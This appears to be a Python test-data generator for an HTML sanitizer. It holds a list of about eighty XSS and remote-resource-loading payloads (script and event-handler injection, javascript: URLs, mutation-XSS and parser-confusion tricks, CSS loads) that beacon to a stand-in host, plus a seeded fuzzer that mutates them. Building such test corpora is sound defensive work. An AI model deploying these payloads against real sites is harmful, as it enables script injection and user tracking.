"""HTML, subjects and names as attackers write them, made from what has worked elsewhere; the same for the same seed.

Whatever runs says so to `RAN`, in whichever window it finds itself; whatever is loaded is loaded from `ELSEWHERE`.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from html import escape

ELSEWHERE = "elsewhere.test"
# Counts in the outermost window, where the frame lets it; a picture tells where it does not.
RAN = "try{top.__ran=(top.__ran||0)+1}catch(e){};new Image().src='http://elsewhere.test/ran'"
_JS = f"javascript:{RAN}"
_AWAY = f"http://{ELSEWHERE}"

SEEDS = [
    f"<script>{RAN}</script>",
    f"<script src={_AWAY}/a.js></script>",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<SCRIPT\x0c>{RAN}</SCRIPT>",
    f"<img src=x onerror=\"{RAN}\">",
    f"<img/src=`x`/onerror='{RAN}'>",
    f"<img src={_AWAY}/p.gif>",
    f"<img srcset='{_AWAY}/p.gif 1x'>",
    f"<image href={_AWAY}/p.gif>",
    f"<picture><source srcset={_AWAY}/p.gif><img></picture>",
    f"<svg onload=\"{RAN}\">",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin=\"{RAN}\" attributeName=x dur=1s>",
    f"<svg><image href={_AWAY}/p.gif /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RAN}</script></svg>#x'>",
    f"<svg><foreignObject><iframe srcdoc=\"<script>{RAN}</script>\"></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RAN}&gt;\">",
    f"<math><annotation-xml encoding=text/html><script>{RAN}</script></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=\"{RAN}\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={RAN}>\">",
    f"<template><script>{RAN}</script></template>",
    f"<textarea></textarea><img src=x onerror=\"{RAN}\"></textarea>",
    f"<title><img src=x onerror=\"{RAN}\"></title>",
    f"<xmp><img src=x onerror=\"{RAN}\"></xmp>",
    f"<!--><img src=x onerror=\"{RAN}\">-->",
    f"<!--[if gte IE 4]><script>{RAN}</script><![endif]-->",
    f"<![CDATA[<img src=x onerror=\"{RAN}\">]]>",
    f"<?xml version=1?><script>{RAN}</script>",
    f"<iframe src=\"{_JS}\"></iframe>",
    f"<iframe srcdoc=\"<script>{RAN}</script>\"></iframe>",
    f"<iframe src={_AWAY}></iframe>",
    f"<object data=\"{_JS}\"></object>",
    f"<object data={_AWAY}/o></object>",
    f"<embed src={_AWAY}/o.swf>",
    f"<video autoplay src={_AWAY}/v.mp4 onloadstart=\"{RAN}\" poster={_AWAY}/v.png></video>",
    f"<audio autoplay src={_AWAY}/a.mp3></audio>",
    f"<link rel=stylesheet href={_AWAY}/s.css>",
    f"<link rel=prefetch href={_AWAY}/p>",
    f"<link rel=preconnect href={_AWAY}>",
    f"<base href={_AWAY}/><a href=x>x</a>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<meta http-equiv=refresh content='0;url={_JS}'>",
    f"<meta http-equiv=Content-Security-Policy content=\"default-src *\"><script>{RAN}</script>",
    f"<style>@import '{_AWAY}/s.css';</style>",
    f"<style>*{{background:url({_AWAY}/b.gif)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({_AWAY}/f.woff)}}*{{font-family:x}}</style>",
    f"<div style=\"background:url({_AWAY}/b.gif)\">x</div>",
    f"<div style=\"background-image:\\75rl({_AWAY}/b.gif)\">x</div>",
    f"<div style=\"color:red;background-color:url({_AWAY}/b.gif);list-style:url({_AWAY}/l.gif)\">x</div>",
    f"<div style=\"width:expression({RAN})\">x</div>",
    f"<table background={_AWAY}/b.gif><tr><td background={_AWAY}/b.gif>x</table>",
    f"<body background={_AWAY}/b.gif onload=\"{RAN}\">",
    f"<frameset onload=\"{RAN}\"><frame src={_AWAY}></frameset>",
    f"<input autofocus onfocus=\"{RAN}\">",
    f"<details open ontoggle=\"{RAN}\"><summary>x</summary></details>",
    f"<marquee onstart=\"{RAN}\">x</marquee>",
    f"<select autofocus onfocus=\"{RAN}\"><option>x</select>",
    f"<p contenteditable autofocus onfocus=\"{RAN}\" tabindex=1>x</p>",
    f"<a href=\"{_JS}\">x</a>",
    f"<a href=\" &#1; java\tscript:{RAN}\">x</a>",
    f"<a href=\"JaVaScRiPt&colon;{RAN}\">x</a>",
    f"<a href=\"data:text/html,<script>{RAN}</script>\">x</a>",
    f"<a href=\"vbscript:{RAN}\">x</a>",
    f"<a href=//{ELSEWHERE} ping={_AWAY}/ping download target=_top>x</a>",
    f"<form action=\"{_JS}\"><button formaction=\"{_JS}\">x</button></form>",
    f"<isindex action=\"{_JS}\" type=image src={_AWAY}/i.gif>",
    f"<a><svg><a xlink:href=\"{_JS}\"><text>x</text></a></svg></a>",
    f"<font color='red\" onmouseover=\"{RAN}'>x</font>",
    f"<td colspan='9\" onclick=\"{RAN}'>x</td>",
    f"<img alt='x\" onerror=\"{RAN}' src=x>",
    f"<b onclick=\"{RAN}\" onpointerenter=\"{RAN}\" onanimationstart=\"{RAN}\" style=\"animation:x 1s\">x</b>",
    f"<dialog open oncancel=\"{RAN}\"><p popover id=p>x</p></dialog>",
    f"<portal src={_AWAY}></portal><fencedframe src={_AWAY}></fencedframe>",
    f"<applet code=x codebase={_AWAY}></applet>",
    f"<keygen autofocus onfocus=\"{RAN}\"><bgsound src={_AWAY}/x.mid>",
    f"<a href={_AWAY}/ rel=opener target=_self>x</a>",
    f"<div><template shadowrootmode=open><script>{RAN}</script><img src={_AWAY}/s.gif></template></div>",
    "<img name=cookie><form id=documentElement><input name=attributes>",
    "<plaintext>" + f"<img src=x onerror=\"{RAN}\">",
]  # fmt: skip

_HARMLESS = [
    "<p>Good morning</p>",
    "Šibenik & <b>bold",
    "<ul><li>one<li>two</ul>",
    "<table><tr><td>",
    "&amp;lt;",
    "</div>",
]
_WRAPPERS = [
    "div",
    "table",
    "svg",
    "math",
    "style",
    "title",
    "noscript",
    "textarea",
    "select",
    "b",
    "a",
    "template",
    "p",
]


def bodies(number: int, seed: int = 20261125) -> Iterator[str]:
    """So many hostile bodies: first each seed as it is, then wrapped, nested, cut, doubled and garbled."""
    yield from SEEDS[:number]
    chance = random.Random(seed)
    for _ in range(number - len(SEEDS)):
        pieces = [chance.choice(SEEDS) for _ in range(chance.randint(1, 4))]
        pieces += chance.choices(_HARMLESS, k=chance.randint(0, 2))
        chance.shuffle(pieces)
        yield _garbled("".join(_wrapped(piece, chance) for piece in pieces), chance)


def _wrapped(html: str, chance: random.Random) -> str:
    for _ in range(chance.randint(0, 3)):
        tag = chance.choice(_WRAPPERS)
        close = chance.choice([f"</{tag}>", "", f'</{tag} x=">">', f"</{tag.upper()}"])
        html = chance.choice([f"<{tag}>{html}{close}", f'<{tag} title="{html}">{close}', f"<{tag}>{close}{html}"])
    return html


def _garbled(html: str, chance: random.Random) -> str:
    for _ in range(chance.randint(0, 4)):
        at = chance.randrange(len(html) + 1)
        cut = chance.randint(0, 3)
        match chance.randrange(7):
            case 0:
                html = html[:at] + html[at + cut :]
            case 1:
                html = html[:at] + chance.choice("\x00\x0b\x0c\t\n\u2028<>\"'`/=&;#") * cut + html[at:]
            case 2:
                html = html[:at].swapcase() + html[at:]
            case 3:
                html = html[:at] + escape(html[at:])
            case 4:
                html = html[:at] + html[at - 20 if at > 20 else 0 : at] + html[at:]
            case 5:
                html = html.replace(" ", chance.choice(["/", "\n", "\x0c", "\t"]), cut)
            case 6:
                html = html.replace("s", chance.choice(["&#115;", "&#x73", "ſ", "s"]), cut)
    return html
